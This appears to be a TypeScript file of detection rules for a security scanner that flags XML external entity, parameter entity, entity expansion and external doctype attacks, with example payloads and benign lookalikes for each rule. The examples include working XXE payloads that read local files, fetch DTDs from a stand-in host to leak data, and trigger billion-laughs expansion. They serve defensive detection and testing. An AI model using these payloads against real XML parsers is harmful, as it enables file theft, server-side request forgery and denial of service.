import { referenceKindOf } from '../../grammars/xml/reference.ts';
import { type XmlDeclaration, xmlGrammar } from '../../grammars/xml/xml.ts';
import { confidence } from '../../placement/confidence.ts';
import { strongest } from '../../placement/evidence.ts';
import type { ValueRule } from '../rule.ts';

/** `<!ENTITY x SYSTEM "file:///etc/passwd">` */
export const externalEntity: ValueRule = {
  id: 'xxe.external-entity',
  score: confidence.certain,
  message: 'declares an entity whose content the XML parser fetches from a file or another host',
  trigger: { literals: [['<!entity']] },
  judge: (subject) => {
    const reading = subject.tokens(xmlGrammar);
    if (!reading.complete) subject.incomplete('tokens');
    return strongest(reading.declarations, (one) => {
      if (one.kind !== 'entity' || one.external === undefined) return 0;
      const kind = referenceKindOf(one.literal);
      // Old document types include the character entities of the W3C in this way.
      if (kind === 'known' || kind === 'none') return confidence.hint;
      return kind === 'relative' ? confidence.likely : confidence.certain;
    });
  },
  examples: [
    '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>',
    "<!ENTITY % d SYSTEM 'http://203.0.113.5/d.dtd'> %d;",
    '<!DOCTYPE a [<!ENTITY b PUBLIC "any" "php://filter/resource=x">]>',
    '<![CDATA[<!DOCTYPE r [<!ENTITY % p SYSTEM "http://203.0.113.5:22/"> %p;]>]]>',
    '//48ACEARABPAEMAVABZAFAARQAgAHIAIABbADwAIQBFAE4AVABJAFQAWQAgAHgAIABTAFkAUwBUAEUATQAgACIAZgBpAGwAZQA6AC8ALwAvAHMAcgB2AC8AYQAiAD4AXQA+ADwAcgA+ACYAeAA7ADwALwByAD4A',
  ],
  lookalikes: [
    ...['//48AHIAPgB0AGUAYQA8AC8AcgA+AA==', '<!ENTITY copy "&#169;">'],
    'An <!ENTITY x SYSTEM declaration refers to another resource.',
    '<!DOCTYPE html><html lang="en"><body>&nbsp;</body></html>',
  ],
};

/** `<!ENTITY % a "<!ENTITY b SYSTEM …">`: declarations that build declarations. */
export const parameterEntity: ValueRule = {
  id: 'xxe.parameter-entity',
  score: confidence.certain,
  message: 'declares a parameter entity, with which a document writes its own document type',
  trigger: { literals: [['<!entity']] },
  judge: (subject) => {
    const reading = subject.tokens(xmlGrammar);
    let searches = 0;
    for (const one of reading.declarations) {
      if (one.kind !== 'entity' || !one.isParameter) continue;
      if (nested.test(one.literal))
        return { start: one.start, end: one.end, score: confidence.certain };
      // Each look goes through the whole text.
      if (++searches > searchesMax) {
        subject.incomplete('tokens');
        continue;
      }
      const isExpanded = one.name !== '' && subject.text.includes(`%${one.name};`);
      if (isExpanded) return { start: one.start, end: one.end, score: confidence.strong };
    }
    return undefined;
  },
  examples: [
    `<!ENTITY % a "<!ENTITY b SYSTEM 'http://203.0.113.5/?%c;'>"> %a;`,
    `<!DOCTYPE r [<!ENTITY % s '>%x; <!ENTITY &#x25; e "">'>%s;]>`,
    '<!DOCTYPE r [<!ENTITY % one "<"> %one;]>',
  ],
  lookalikes: [
    'A parameter entity is declared with <!ENTITY % name "text"> in the document type.',
    '<!ELEMENT p (#PCDATA)>',
  ],
};

const searchesMax = 64;
const nested = /<!|&#(?:x25|37);|%[\w.-]{1,60};/i;

/**
 * Entities made of entities ("billion laughs"), and entities in a document that has no need of any.
 */
export const entityExpansion: ValueRule = {
  id: 'xxe.entity-expansion',
  cwe: 'CWE-776',
  severity: 'high',
  score: confidence.certain,
  message: 'declares entities that the XML parser must expand, over and over where they nest',
  trigger: { literals: [['<!entity']] },
  judge: (subject) => {
    const reading = subject.tokens(xmlGrammar);
    let plain: XmlDeclaration | undefined;
    for (const one of reading.declarations) {
      if (one.kind !== 'entity' || one.external !== undefined) continue;
      const references = countReferences(one.literal);
      if (references >= 2) return { start: one.start, end: one.end, score: confidence.certain };
      if (!harmless.test(one.literal)) plain ??= one;
    }
    const hasSubset = reading.declarations.some((one) => one.hasSubset);
    if (plain === undefined || !hasSubset) return undefined;
    return { start: plain.start, end: plain.end, score: confidence.likely };
  },
  examples: [
    '<!DOCTYPE r [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><r>&c;</r>',
    ...['<!DOCTYPE r [<!ENTITY who "me">]><r>&who;</r>', '<!ENTITY b "&a;&a;&a;&a;">'],
  ],
  lookalikes: [
    '<!DOCTYPE svg [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg xmlns="&ns_svg;"/>',
    '<!DOCTYPE xsl:stylesheet [<!ENTITY nbsp "&#160;">]>',
    'write <!ENTITY author "Anna"> once and &author; everywhere',
  ],
};

function countReferences(literal: string): number {
  let count = 0;
  for (let at = literal.indexOf('&'); at >= 0; at = literal.indexOf('&', at + 1)) {
    if (literal.charCodeAt(at + 1) !== 35) count++;
  }
  return count;
}

/** Character references and namespace names, what style sheets and drawings declare. */
const harmless = /^(?:$|&(?:amp;)?#\w{1,8};|https?:\/\/|urn:|.$)/;

/** `<!DOCTYPE r SYSTEM "http://…">` */
export const externalDoctype: ValueRule = {
  id: 'xxe.external-doctype',
  severity: 'high',
  score: confidence.strong,
  message: 'has the XML parser fetch its document type from a place that the sender chose',
  trigger: { literals: [['<!doctype'], ['system', 'public']] },
  judge: (subject) => {
    const reading = subject.tokens(xmlGrammar);
    if (!reading.complete) subject.incomplete('tokens');
    return strongest(reading.declarations, (one) =>
      one.kind === 'doctype' && one.external !== undefined ? scoreOf(one) : 0,
    );
  },
  examples: [
    '<!DOCTYPE order SYSTEM "http://www.w3.org:80@203.0.113.5/"><order/>',
    '<!DOCTYPE order SYSTEM "https://www.google.com/url?q=http://203.0.113.5/o.dtd"><order/>',
    '<!DOCTYPE order SYSTEM "http://203.0.113.5/o.dtd"><order/>',
    '<?xml version="1.0"?><!DOCTYPE r PUBLIC "-//X//Y//EN" "file:///c:/windows/win.ini"><r/>',
    '<!DOCTYPE r PUBLIC "-//X//Y//EN" "http://files.example.net/e.dtd"><r/>',
    '<!DOCTYPE r SYSTEM "///srv/orders.txt"><r/>',
    "<!DOCTYPE r SYSTEM '../c:/windows/win.ini'><r/>",
    '<!DOCTYPE s:Envelope SYSTEM "e.dtd"><s:Envelope/>',
  ],
  lookalikes: [
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    '<!DOCTYPE html SYSTEM "about:legacy-compat">',
    '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">',
    '<!DOCTYPE book SYSTEM "docbook.dtd"><book/>',
    '<!DOCTYPE suite SYSTEM "https://testng.org/testng-1.0.dtd"><suite/>',
    '<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd"><cXML/>',
    '<!DOCTYPE book SYSTEM "../dtd/docbook.dtd"><book/>',
    '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN">',
  ],
};

function scoreOf({ name, external, literal }: XmlDeclaration): number {
  switch (referenceKindOf(literal)) {
    case 'local':
      return confidence.certain;
    case 'network':
      return external === 'system' ? confidence.certain : confidence.strong;
    case 'relative':
      return soapRoot.test(name) || isOtherFile(literal) ? confidence.likely : 0;
    default:
      return 0;
  }
}

/** A message has no document type (SOAP 1.2, part 1, 5). */
const soapRoot = /:Envelope$/;

function isOtherFile(uri: string): boolean {
  return climb.test(uri) && !typeName.test(uri);
}

const climb = /^\s{0,8}\.\.[\\/]/;
const typeName = /\.(?:dtd|ent|mod|xml)\s{0,8}$/i;
